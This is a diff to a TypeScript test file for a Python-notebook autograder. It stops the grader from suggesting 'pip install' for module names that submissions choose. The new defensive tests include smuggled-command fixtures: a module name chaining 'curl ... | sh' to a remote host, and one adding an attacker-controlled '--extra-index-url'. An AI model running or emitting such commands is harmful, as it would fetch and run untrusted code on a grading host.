@@ -32,6 +32,22 @@ const LOSS =
   '        return loss\n' +
   '    return weighted_loss\n';
 
+/** A compute_class_freqs that uses `module`. */
+const USES = (module: string) => `def compute_class_freqs(labels):\n    return ${module}.freqs(labels)\n`;
+
+/** `import imported`, failing as a missing module whose name (ModuleNotFoundError.name) is `name`. */
+const missingModule = (imported: string, name: string) =>
+  [
+    'import sys',
+    'class Finder:',
+    '    def find_spec(self, fullname, path=None, target=None):',
+    `        if fullname == ${JSON.stringify(imported)}:`,
+    `            raise ModuleNotFoundError("No module named " + repr(${JSON.stringify(name)}), name=${JSON.stringify(name)})`,
+    'sys.meta_path.insert(0, Finder())',
+    `import ${imported}`,
+    '',
+  ].join('\n');
+
 const check = scratchSubmissions('course-imports');
 
 describe('a .py exported from the course notebook', () => {
@@ -125,7 +141,7 @@ describe('a .py exported from the course notebook', () => {
     ].join('\n');
     const { report } = await check('pandas-freqs.py', source + LOSS.replace(/K\./g, 'np.'));
     expect(report.problems.map((p) => p.message)).toEqual([
-      'pandas-freqs.py:2: imports "notapkg_wlgrade", which is not installed for python3, and compute_class_freqs uses it, so compute_class_freqs\'s cases were not graded (get_weighted_loss\'s were). Write compute_class_freqs without it (numpy is enough), or install it with "python3 -m pip install notapkg_wlgrade".',
+      'pandas-freqs.py:2: imports "notapkg_wlgrade", which is not installed for python3, and compute_class_freqs uses it, so compute_class_freqs\'s cases were not graded (get_weighted_loss\'s were). Write compute_class_freqs without it: numpy is enough (it is not a package wlgrade knows, so wlgrade does not suggest installing it).',
     ]);
     // The load was retried with the import replaced; its "costs no points" note would contradict the problem.
     expect(report.notes.filter((n) => n.startsWith('Its top-level code raised'))).toEqual([]);
@@ -137,7 +153,7 @@ describe('a .py exported from the course notebook', () => {
     const source = 'import numpy as np\nimport notapkg_wlgrade as xp\n\ndef compute_class_freqs(labels):\n    p = xp.mean(labels, axis=0)\n    return p, 1 - p\n\n';
     const { report } = await check('both.py', source + LOSS.replace(/K\./g, 'xp.'));
     expect(report.problems.map((p) => p.message)).toEqual([
-      'both.py:2: imports "notapkg_wlgrade", which is not installed for python3. Install it with "python3 -m pip install notapkg_wlgrade", or remove the import if the graded functions do not need it.',
+      'both.py:2: imports "notapkg_wlgrade", which is not installed for python3. Remove the import if the graded functions do not need it (it is not a package wlgrade knows, so wlgrade does not suggest installing it).',
     ]);
     expect(report.score).toBe(0);
   });
@@ -161,10 +177,23 @@ describe('a .py exported from the course notebook', () => {
     expect(report.cases.filter((c) => c.status !== 'passed').map((c) => `${c.id}: ${c.message}`)).toEqual([]);
   });
 
-  it('still says "pip install" for a real package a graded function uses', async () => {
-    const freqs = 'def compute_class_freqs(labels):\n    return notapkg_wlgrade.f(labels)\n';
-    const { report } = await check('pkg.py', 'import numpy as np\nimport notapkg_wlgrade\n' + freqs + LOSS.replace(/K\./g, 'np.'));
-    expect(report.problems[0]).toMatchObject({ code: 'IMPORT_ERROR', line: 2 });
-    expect(report.problems[0]!.message).toMatch(/which is not installed for .*pip install notapkg_wlgrade/);
+  it('still says "pip install" for a package it knows that a graded function uses (seaborn: its pip name)', async () => {
+    // Raised by a finder, so the test does not depend on what is installed.
+    const missing = missingModule('seaborn', 'seaborn');
+    const { report } = await check('pkg.py', 'import numpy as np\n' + missing + USES('seaborn') + LOSS.replace(/K\./g, 'np.'));
+    expect(report.problems[0]).toMatchObject({ code: 'IMPORT_ERROR' });
+    expect(report.problems[0]!.message).toMatch(/imports "seaborn", which is not installed for .*"python3 -m pip install seaborn"/);
+  });
+
+  it.each([
+    ['a name of its own', 'xray_class_weights'],
+    ['a command', 'numpy && curl -s http://203.0.113.9/p | sh && echo'],
+    ['an index of its own', 'tensorflow --extra-index-url http://203.0.113.9/simple tensorflow'],
+  ])('never builds a pip command from a module name the submission chose (%s): a package registered under it would run on the grading host', async (_what, name) => {
+    const missing = missingModule('chosen', name);
+    const { report } = await check('chosen.py', 'import numpy as np\n' + missing + USES('chosen') + LOSS.replace(/K\./g, 'np.'));
+    expect(report.problems[0]).toMatchObject({ code: 'IMPORT_ERROR' });
+    expect(report.problems[0]!.message).not.toMatch(/pip/);
+    expect(report.problems[0]!.message).toContain('it is not a package wlgrade knows, so wlgrade does not suggest installing it');
   });
 });
